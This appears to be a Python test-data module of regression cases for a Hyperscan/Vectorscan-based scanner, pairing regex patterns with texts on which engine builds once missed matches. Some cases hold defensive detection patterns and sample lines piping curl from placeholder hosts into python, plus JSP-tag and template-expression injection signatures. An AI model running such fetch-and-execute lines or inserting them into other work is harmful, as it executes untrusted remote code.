r"""The cases of known defects: patterns and texts on which some build of the engine once missed a match.

A case states a fact about a pattern and a text, whoever found it. It runs at every distance from the beginning of a
block, alone and between other lines, because most of these defects sit where one loop over vector registers hands
over to the next. Not here is what every build reads in another way than PCRE2 (``{,3}``, ``\8`` and ``\9``, classes
of Unicode): pass one must not use it, and `scanner.engine.patterns.loosen` sees to that.
"""

from dataclasses import dataclass
from typing import Final, Literal

Mode = Literal["expression", "prefilter", "literal", "caseless literal"]

_VECTORSCAN: Final = "https://github.com/VectorCamp/vectorscan/issues/"
_HYPERSCAN: Final = "https://github.com/intel/hyperscan/issues/"
_OURS: Final = "seen here in package hyperscan 0.9.1"


@dataclass(frozen=True, slots=True)
class Case:
    """Patterns that are compiled together, and texts.

    Attributes:
        name: Short and unique.
        reference: Where the defect was described.
        patterns: Expressions or literals, in the engine's own language, to be read under UTF8 and MULTILINE.
        texts: Each with the places in ``patterns`` of those that match it.
        mode: How to compile.
    """

    name: str
    reference: str
    patterns: tuple[str, ...]
    texts: tuple[tuple[str, tuple[int, ...]], ...]
    mode: Mode = "expression"


_TAGS: Final = (
    "<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element|attribute|body|fallback"
    "|params|param|output|root)"
)
_LENGTHS: Final = (7, 15, 16, 31, 32, 33, 40, 63, 64, 65)

CASES: Final[tuple[Case, ...]] = (
    Case(
        "pipe to python",
        _VECTORSCAN + "382",
        (r"curl(?s:.)*\|\s*python",),
        tuple(
            (f"curl http://{host}/ 2>&1 | python", (0,)) for host in ("xxx:8000", "xxxx:8000", "vader:8080")
        ),
    ),
    Case(
        "pipe to python, class",
        _VECTORSCAN + "382",
        (r"curl(?s:.)*\|[ \t]*python",),
        (("curl http://xxxx:8000 2>&1 | python", (0,)),),
    ),
    Case(
        "one of three patterns",
        _VECTORSCAN + "358",
        (
            r"<%[\s\S]+%>",
            _TAGS,
            r"[\$#]\{[\s\S]+\([\s\S]*\)[\s\S]*\}",
        ),
        (("<%out.print();int a%>", (0,)), ("<a:body>${f(x)}", (1, 2))),
    ),
    Case(
        "anchored, prefilter",
        _VECTORSCAN + "317",
        (
            "^muvoy-nyemcynjywynamlahi/nyzye/khjdrehko-(qjhn|lyol)-.*/0$",
            "^cop/devel/workflows-(prod|test)-.*/[0-9]+$",
        ),
        (("cop/devel/workflows-prod-build-cop-cop-ingestor/0", (1,)),),
        "prefilter",
    ),
    Case(
        "addresses and dates",
        _VECTORSCAN + "304",
        (
            "([^ @]+)@([^ @]+)",
            "([0-9][0-9]?)/([0-9][0-9]?)/([0-9][0-9]([0-9][0-9])?)",
            "([a-zA-Z][a-zA-Z0-9]*)://([^ /]+)(/[^ ]*)?|([^ @]+)@([^ @]+)",
        ),
        (
            ("mail me@home.example on 12/31/1999, or see http://example.org/a/b?c=d", (0, 1, 2)),
            ("no later than 1/2/03: nothing", (1,)),
        ),
    ),
    Case(
        "many gaps, caseless",
        "https://github.com/gliwka/hyperscan-java/issues/231",
        (
            "(?i)^.*TAPIOCA.*EX.*$",
            "(?i)^.*BOBA.*GUY.*$",
            "(?i)^.*PAYPAL.*JACQUES.*MARI.*$",
            "(?i)^GUCCI FRANCE.*$",
            r"(?i)^PAYPAL \*YVESSAINTL.*$",
            "(?i)^DD.*FIREHO 855-973-1040$",
            "(?i)^.*XING.*FU.*TAN.*$",
        ),
        (("TAPIOCA HOUSE TUXTLA GUTIER MEX", (0,)), ("dd *fireho 855-973-1040", (5,))),
    ),
    Case(
        "full-width digits",
        _VECTORSCAN + "326",
        (
            r"\x{ff15}\x{ff10}\x{ff17}\x{ff15}\x{ff10}[\x{ff10}-\x{ff19}]{7}",
            r"NL[0-9\x{ff10}-\x{ff19}]{2}[A-Z\x{ff21}-\x{ff3a}a-z\x{ff41}-\x{ff5a}]{4}[0-9\x{ff10}-\x{ff19}]{10}",
        ),
        (
            ("\uff15\uff10\uff17\uff15\uff10\uff17\uff18\uff13\uff12\uff14\uff10\uff11", (0,)),
            ("NL\uff12\uff10INGB\uff10\uff10\uff10\uff11\uff12\uff13\uff14567", (1,)),
        ),
        "prefilter",
    ),
    Case(
        "a repeated ideograph",
        _VECTORSCAN + "135 and 147",
        ("\u661f{2}",),
        (("\u661f\u661f\u70b9\u706f", (0,)), ("\u70b9\u661f\u661f\u706f", (0,)), ("\u661f\u70b9\u661f", ())),
    ),
    Case("a quoted word", _HYPERSCAN + "57", (r"\Q测试\E",), (("这是一个测试", (0,)),)),
    Case(
        "back-reference, prefilter",
        _HYPERSCAN + "74",
        (r"(?i)(здра).*уйте/\1",),
        (("ЗДРАВСТВУЙТЕ/ЗДРА", (0,)),),
        "prefilter",
    ),
    Case(
        "eight back-references, prefilter",
        _VECTORSCAN + "209",
        ("|".join(f"{c}([ .-]?){c}\\g{{{number}}}{c}" for number, c in enumerate("abcdefgh", 1)),),
        (("a a a", (0,)), ("g-g-g", (0,)), ("hhh", (0,)), ("h h h", (0,))),
        "prefilter",
    ),
    Case("border beside a letter", _HYPERSCAN + "328", (r"\bö",), (("xö", (0,)), (" ö", ()))),
    Case(
        "any punctuation",
        "https://github.com/ClickHouse/ClickHouse/issues/117527",
        (r"\p{P}", r"[\p{Z}\p{P}]"),
        (("usar,excel,xxxx", (0, 1)), ("usar,excel,xxxxx", (0, 1)), ("usar excel xxxxxx", (1,))),
    ),
    Case(
        "negated classes",
        "https://github.com/ClickHouse/ClickHouse/issues/117522",
        ("[^A-Za-z]", "[^Xa]"),
        (("abc", (1,)), ("a", ()), ("a1", (0, 1))),
    ),
    Case(
        "word beyond 64 bytes",
        "https://github.com/StarRocks/starrocks/issues/76417",
        ("track_path", r"abc_[0-9]+[.][0-9]+"),
        (
            (
                f"-- {'-' * 80}\n-- @Time     : 2026-05-07 17:02\n    ,track_path      ARRAY<STRING> COMMENT",
                (0,),
            ),
            ("gk|abc_0.054523_psc2.8.225|cba_0.060057", (1,)),
        ),
    ),
    Case(
        "Cyrillic classes",
        "https://github.com/ClickHouse/ClickHouse/pull/38171",
        ("ф[иаэе]б[еэи][рпл]", "a[ft],th", "фа[беьв]+е?[рлко]"),
        (("фабрикант", (2,)), ("фабер", (0, 2))),
    ),
    Case(
        "pairs of classes",
        "https://github.com/VectorCamp/vectorscan/pull/402",
        ("[0-9]{1,2}c[a-f]*", r"[b-d]{1,3}[cd]+\d*", "[a-c]{1,3}[ac][ab]*", "[ac]{1,3}[cd]+"),
        (("xxxxxxxxxxxxxxx9cfe", (0,)), ("bdd12", (1,)), ("xxab aaa", (2,)), ("xxad", (3,))),
    ),
    Case(
        "end of a run",
        _VECTORSCAN + "378",
        ("a+[^a]", "^a*b"),
        tuple(("a" * length + "b", (0, 1)) for length in _LENGTHS),
    ),
    Case(
        "class in a run",
        _VECTORSCAN + "377",
        (r"[a-f0-9]{2}[$&%]", "[é-ü]!"),
        tuple((" " * length + "c3$ é!", (0, 1)) for length in _LENGTHS),
    ),
    Case(
        "optional digit after a line's beginning",
        _OURS,
        (r"^\d?A",),
        (("A", (0,)), ("7A", (0,)), ("xx\n4A\nA", (0,))),
    ),
    Case(
        "two braces",
        _OURS,
        (r"[$&]\{[^}]*[$&]\{",),
        (("${" + 32 * "a" + "${", (0,)), ("&{" + 7 * "a" + "&{", (0,))),
    ),
    Case(
        "words at the end of a line",
        _OURS,
        (r"\S+\s+\S+$",),
        (("ab " + 53 * "a" + "\n\n", (0,)), ("ab \n", ())),
    ),
    *(
        Case(
            f"pair at the end {number}",
            _OURS,
            (pattern,),
            tuple((run * length + text, (0,)) for length in _LENGTHS),
        )
        for number, (pattern, run, text) in enumerate(
            (
                (r"[\"']{2}$", ".", "'\""),
                ("[kK]+[xyz]*0", "/", "KK0"),
                ("[0-9]+@+", "a", "999@"),
                (r"[ab]{2}[а-я]?$", "/", "aa"),
                (r"[xyz]\{?$", "{", "y{"),
                (r"[ \t]{2}[^\"']*", "-", "\t\t"),
            ),
            1,
        )
    ),
    Case(
        "long literal beside a short one",
        _HYPERSCAN + "303 and 353",
        ("xt>" + 34 * "D", "xt<" + 34 * "D", "123"),
        (
            ("zz XT>" + 34 * "d" + "123", (0, 2)),
            ("zz xt<" + 34 * "D", (1,)),
            ("zz xt<" + 33 * "D" + "A 12", ()),
        ),
        "caseless literal",
    ),
    Case(
        "literals within each other",
        _HYPERSCAN + "303",
        (20 * "\u1680", 12 * "\u1680", "*" + 12 * "\u1680", 21 * "\u1680" + "some non existing string"),
        (("*" + 20 * "\u1680", (0, 1, 2)), (12 * "\u1680", (1,))),
        "literal",
    ),
)
